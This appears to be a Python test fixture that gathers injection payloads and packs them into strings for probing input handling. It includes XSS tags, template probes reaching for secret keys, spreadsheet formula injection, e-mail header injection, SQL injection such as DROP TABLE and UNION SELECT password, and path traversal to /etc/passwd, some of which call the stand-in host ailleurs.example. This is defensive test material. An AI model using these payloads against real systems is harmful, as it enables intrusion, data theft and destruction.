"""Texts that are programs somewhere: in a page, a template, a spreadsheet, an e-mail, SQL, a log, a letter, a path."""

CALCUL = "8888888"  # 7777777 + 1111111: appears only where something was evaluated

BALISES = [
    "<script>attaque()</script>", "\"><script src=//ailleurs.example/attaque.js></script>", "'><img src=x onerror=attaque()>",
    "</textarea><svg onload=attaque()>", "</title><iframe src=javascript:attaque()>", "</option></select><x-attaque>",
    "\" autofocus onfocus=attaque() x=\"", "' onmouseover='attaque()", "javascript:attaque()", "<a href=javascript:attaque()>ici</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=attaque()>", "&lt;script&gt;attaque()&lt;/script&gt;",
    "<!--><x-attaque>-->", "<template><x-attaque></template>", "<style>@import'//ailleurs.example'</style>", "</script><x-attaque>",
    "<base href=//ailleurs.example>", "<meta http-equiv=refresh content=0;url=//ailleurs.example>", "<form action=//ailleurs.example><input name=p>",
]  # fmt: skip
GABARITS = [
    "{{ 7777777|add:1111111 }}", "{% debug %}", "{% include '500.html' %}", "{{ settings.SECRET_KEY }}", "{{request.user.password}}",
    "${7777777+1111111}", "#{7777777+1111111}", "<%= 7777777+1111111 %>", "%(message)s {0.__class__} {}", "{{''.__class__.__mro__}}",
]  # fmt: skip
TABLEURS = ["=7777777+1111111", "+7777777+1111111", "-2+3+cmd|' /C calc'!A0", "@SUM(7777777,1111111)", "\t=7777777+1111111", "\r=7777777+1111111",
            "＝7777777+1111111", " =HYPERLINK(\"//ailleurs.example\")", ";=7777777+1111111", "\"=7777777+1111111\""]  # fmt: skip
COURRIELS = ["Objet\r\nBcc: attaque@ailleurs.example", "\nContent-Type: text/html\n\n<x-attaque>", "%0d%0aBcc:%20attaque@ailleurs.example",
             "a\u2028Bcc: attaque@ailleurs.example", "=?utf-8?q?=0ABcc:_attaque@ailleurs.example?=", "a@b.example, attaque@ailleurs.example"]  # fmt: skip
BASE = ["' OR '1'='1", "'; DROP TABLE dossiers_dossier; --", "1) UNION SELECT password FROM organisation_personne --", "%' OR 1=1 --",
        "\\'; SELECT pg_sleep(0) --", "$$; DROP TABLE x; $$", "a & | ! <-> :* 'x", "%s %(x)s %%", "{a,b}\"\\"]  # fmt: skip
JOURNAUX = ["bien\n2026-01-01T00:00:00 ERROR attaque tout va mal", "\x1b[2J\x1b]0;attaque\x07", "a\x08\x08\x7fattaque"]
CARACTERES = [
    "a\0attaque",
    "\u202eeuqatta\u202c",
    "\u2066a\u2069\u200b",
    "A" + "\u0300" * 60,
    "\ufffe\uffff\ufeff",
    "😀" * 10,
    "\x85\x0b\x0c",
    "\u0130\u0131ﬀ",
]
LETTRE = ["#eval(\"7777777+1111111\")", "#read(\"/etc/passwd\")", "#image(\"/etc/passwd\")", "*gras* _x_ $ 7777777+1111111 $ #(7777777+1111111)",
          "#set page(width: 1pt)", "\\u{41} @ref <etiquette> // note /* x", "= Titre\n- liste\n+ liste"]  # fmt: skip
DONNEES = ['{"a": [1e999, NaN]}', '"}],"x":[{"', "[[[[[[[[]]]]]]]]", "null"]
CHEMINS = [
    "../../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "\\\\ailleurs.example\\x",
    "//ailleurs.example/",
    "https://ailleurs.example/",
    "con",
]
CHARGES = [*BALISES, *GABARITS, *COURRIELS, *BASE, *JOURNAUX, *CARACTERES, *LETTRE, *DONNEES, *CHEMINS, *TABLEURS]
SEULES = [
    "-1",
    "0",
    "99999999999999999999999",
    "1e999",
    "2026-99-99",
    "NaN",
    "a" * 20_000,
    "",
    "٣",
    "true",
    "entite:x",
    "poste:99999999999999999999",
]


def paquets(longueur: int) -> list[str]:
    """All of them in texts no longer than that; in a short one, each that acts at the beginning of a cell begins one."""
    if longueur > 1000:
        return [" ".join([*TABLEURS[:1], *CHARGES]), *TABLEURS[1:2]]
    suite, debuts, faits = (
        [c for c in CHARGES if c not in TABLEURS and len(c) <= longueur],
        [c for c in TABLEURS if len(c) <= longueur],
        list[str](),
    )
    while suite or debuts:
        paquet = debuts.pop(0) if debuts else suite.pop(0)
        while suite and len(paquet) + 1 + len(suite[0]) <= longueur:
            paquet = f"{paquet} {suite.pop(0)}"
        faits.append(paquet)
    return faits
